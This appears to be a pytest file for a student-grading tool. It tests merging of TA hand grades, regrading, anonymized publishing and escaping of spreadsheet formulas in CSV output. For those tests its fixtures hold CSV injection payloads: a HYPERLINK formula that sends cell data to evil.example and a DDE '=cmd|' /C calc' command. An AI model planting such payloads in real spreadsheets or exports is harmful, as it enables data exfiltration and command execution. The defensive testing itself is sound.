"""A TA's term, in order: grade, grade by hand, regrade, publish; hand grades and the TA's files survive it all.

The batch grades the Jaccard functions and the written answers only, so that it takes seconds. The
spreadsheet tests feed the CSVs a name, an archive name and answers that begin with a formula.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from grader.cli import main as cli_main
from grader.messages import text
from grader.report import render_all
from grader.report.csvsafe import cell, unescape
from grader.results import CheckResult, Environment, SubmissionInfo, SubmissionResult
from grader.roster import ROSTER_FILE
from tests.conftest import build_submission, pack

ZHANG, LI = "2024001_张三", "2024002_li"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"B*H*W*C")'
TA_FILES = ("index.html", "grades.csv", "checks.csv", "results.json")


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def by_id(path: Path) -> dict[str, dict[str, str]]:
    return {r["id"]: r for r in rows(path)}


def grade(inbox: Path, out: Path, *extra: str) -> int:
    return cli_main(["grade", str(inbox), "--out", str(out), "--checks", "jaccard*,answers*", *extra])


def automatic(out: Path, sid: str) -> SubmissionResult:
    return SubmissionResult.read(out / sid / "result.json")


@pytest.mark.slow
def test_a_tas_sequence_keeps_the_hand_grades_and_the_tas_files(tmp_path, capsys):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    pack(build_submission(tmp_path / "a"), inbox / f"{ZHANG}.tar.gz")
    pack(build_submission(tmp_path / "b", "answer_formula"), inbox / f"{LI}.tar.gz")
    out = tmp_path / "out"
    assert grade(inbox, out) == 0

    # the template: one row per answer, the student's formula written as text
    assert cli_main(["report", str(out), "--manual-template"]) == 0
    template = rows(out / "manual.csv")
    assert [(r["submission_id"], r["check_id"]) for r in template] == [
        (sid, f"answers/q{q}") for sid in (ZHANG, LI) for q in (1, 4, 5)]
    assert template[3]["answer"] == "'" + FORMULA

    # a TA fills it in: every answer, and an automatic check changed with a reason
    scores = {(ZHANG, "answers/q1"): 6, (ZHANG, "answers/q4"): 5, (ZHANG, "answers/q5"): 7,
              (LI, "answers/q1"): 0, (LI, "answers/q4"): 3.5, (LI, "answers/q5"): 2}
    comments = {(LI, "answers/q1"): "-6: 答案是公式 / a formula, not an answer"}
    for r in template:
        key = (r["submission_id"], r["check_id"])
        r["score"], r["comment"] = str(scores[key]), comments.get(key, "")
    auto_batch = next(c for c in automatic(out, LI).checks if c.id == "jaccard/batch")
    template.append({"submission_id": LI, "check_id": "jaccard/batch", "max_score": "", "score": "0",
                     "comment": "copied from the solution", "answer": ""})
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(template[0]))
        writer.writeheader()
        writer.writerows(template)
    before_merge = {sid: (out / sid / "result.json").read_bytes() for sid in (ZHANG, LI)}
    assert cli_main(["report", str(out), "--manual", str(filled), "--grader", "alice"]) == 0
    assert "merged 7 manual grade(s)" in capsys.readouterr().out
    assert before_merge == {sid: (out / sid / "result.json").read_bytes() for sid in (ZHANG, LI)}

    def expected_total(sid: str) -> float:
        hand = sum(v for (s, _), v in scores.items() if s == sid)
        changed = -auto_batch.score if sid == LI else 0
        return automatic(out, sid).score + hand + changed

    def assert_hand_grades_shown() -> None:
        grades = by_id(out / "grades.csv")
        for sid in (ZHANG, LI):
            assert float(grades[sid]["total"]) == pytest.approx(expected_total(sid)), sid
            assert float(grades[sid]["answers"]) == sum(v for (s, _), v in scores.items() if s == sid)
        checks = by_id(out / "checks.csv")
        assert (checks[LI]["answers/q4"], checks[LI]["jaccard/batch"], checks[ZHANG]["answers/q5"]) == \
            ("3.5", "0", "7")
        page = (out / LI / "report.html").read_text(encoding="utf-8")
        assert "copied from the solution" in page and "答案是公式 / a formula, not an answer" in page

    assert_hand_grades_shown()
    store = (out / "_manual.json").read_bytes()
    stored = json.loads(store)["grades"]
    assert len(stored) == 7 and {g["grader"] for g in stored} == {"alice"}
    assert next(g for g in stored if g["check_id"] == "jaccard/batch")["comment"] == "copied from the solution"

    # regrade everything: the automatic results are new, the hand grades stay
    assert grade(inbox, out, "--force") == 0
    assert "Grading 2 of 2" in capsys.readouterr().out
    assert (out / "_manual.json").read_bytes() == store
    assert_hand_grades_shown()

    # regrade one student
    zhang = (out / ZHANG / "result.json").read_bytes()
    assert grade(inbox, out, "--only", LI) == 0
    assert "Grading 1 of 2 submission(s) (1 kept" in capsys.readouterr().out
    assert (out / ZHANG / "result.json").read_bytes() == zhang
    assert_hand_grades_shown()

    # the next template starts from the grades given; merging it back changes nothing
    assert cli_main(["report", str(out), "--manual-template", str(tmp_path / "again.csv")]) == 0
    again = {(r["submission_id"], r["check_id"]): r for r in rows(tmp_path / "again.csv")}
    assert again[(LI, "answers/q1")]["comment"] == "'" + comments[(LI, "answers/q1")]  # formula-safe
    assert unescape(again[(LI, "answers/q1")]["comment"]) == comments[(LI, "answers/q1")]
    assert cli_main(["report", str(out), "--manual", str(tmp_path / "again.csv"), "--grader", "bob"]) == 0
    assert "(0 new or changed)" in capsys.readouterr().out
    assert (out / "_manual.json").read_bytes() == store

    # publish: anonymized and handouts, each in its own folder; the TA's files stay as they were
    before = {f: (out / f).read_bytes() for f in TA_FILES}
    assert cli_main(["report", str(out), "--anonymize", "--salt", "autumn", "--handout"]) == 0
    said = capsys.readouterr().out
    assert before == {f: (out / f).read_bytes() for f in TA_FILES}
    key = out / "anonymize-key.csv"
    assert str(key) in said
    pseudonyms = {r["submission_id"]: r["pseudonym"] for r in rows(key)}
    assert list(pseudonyms) == [ZHANG, LI] and [r["student_id"] for r in rows(key)] == ["2024001", "2024002"]
    published = out / "_published" / "anonymized"
    assert not (published / "anonymize-key.csv").exists()
    anonymous = by_id(published / "grades.csv")
    assert float(anonymous[pseudonyms[LI]]["total"]) == pytest.approx(expected_total(LI))
    for name in TA_FILES:
        content = (published / name).read_text(encoding="utf-8-sig")
        assert "2024001" not in content and "张三" not in content and "2024002" not in content, name
    handout = out / "_published" / "handout" / LI / "report.html"
    assert "copied from the solution" in handout.read_text(encoding="utf-8")


def test_cells_that_would_start_a_formula_are_written_as_text():
    for value in ("=1+2", "+1+cmd", "-x", "@SUM(A1)", "\tx", "\rx", "'=x"):
        assert cell(value) == "'" + value
    for value in ("-1", "-2.5", "+3", "1e-3", "", "张三", "a=b", "'quoted", "'-1", 7, -1.5):
        assert cell(value) == value  # numbers stay numbers; other text stays as it is
    for value in ("=1+2", "-x", "@SUM(A1)", "'=x", "''=x", "-1", "'quoted", "plain"):
        assert unescape(str(cell(value))) == value


def _formula_batch(out: Path) -> None:
    """One submission whose archive name, roster name and answer all begin with a formula."""
    answer = CheckResult.make("answers/q1", "skipped", 6, text("待助教评分", "awaiting a TA's grade"),
                              question="Q1", answer=FORMULA)
    negative = CheckResult.make("jaccard/batch", "failed", 1.5, text("错", "wrong"), score=0.0)
    sid = "HYPERLINK_2024009"
    SubmissionResult(SubmissionInfo(sid, f"{FORMULA}2024009.tar.gz", "0" * 64), Environment("0"),
                     checks=[negative, answer]).write(out / sid / "result.json")
    (out / ROSTER_FILE).write_text(json.dumps({"schema_version": 1, "students": [
        {"student_id": "2024009", "name": "=cmd|' /C calc'!A0", "status": "submitted", "submissions": [sid]},
        {"student_id": "-2024010+1", "name": "@SUM(1+1)", "status": "missing", "submissions": []}]}),
        encoding="utf-8")


def test_no_csv_the_grader_writes_starts_a_formula(tmp_path):
    out = tmp_path / "reports"
    _formula_batch(out)
    render_all(out)
    assert cli_main(["report", str(out), "--manual-template"]) == 0
    assert cli_main(["report", str(out), "--anonymize"]) == 0
    written = [out / "grades.csv", out / "checks.csv", out / "manual.csv", out / "anonymize-key.csv",
               out / "_published" / "anonymized" / "grades.csv"]
    for path in written:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for value in row:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path, value)
    grades = rows(out / "grades.csv")
    assert grades[0]["source"] == f"'{FORMULA}2024009.tar.gz" and grades[0]["name"] == "'=cmd|' /C calc'!A0"
    assert grades[1]["student_id"] == "'-2024010+1" and grades[1]["name"] == "'@SUM(1+1)"
    assert rows(out / "manual.csv")[0]["answer"] == "'" + FORMULA


def test_a_negative_score_stays_a_number_and_a_merged_comment_reads_back(tmp_path):
    out = tmp_path / "reports"
    _formula_batch(out)
    manual = tmp_path / "manual.csv"
    manual.write_text("submission_id,check_id,score,comment\n"
                      "HYPERLINK_2024009,answers/q1,2,'=not a formula\n"
                      "HYPERLINK_2024009,jaccard/batch,1,'-0.5 for the loop\n", encoding="utf-8")
    assert cli_main(["report", str(out), "--manual", str(manual)]) == 0
    grades = json.loads((out / "_manual.json").read_text(encoding="utf-8"))["grades"]
    assert [g["comment"] for g in grades] == ["=not a formula", "-0.5 for the loop"]
    assert cell(-0.5) == -0.5 and cell("-0.5") == "-0.5"
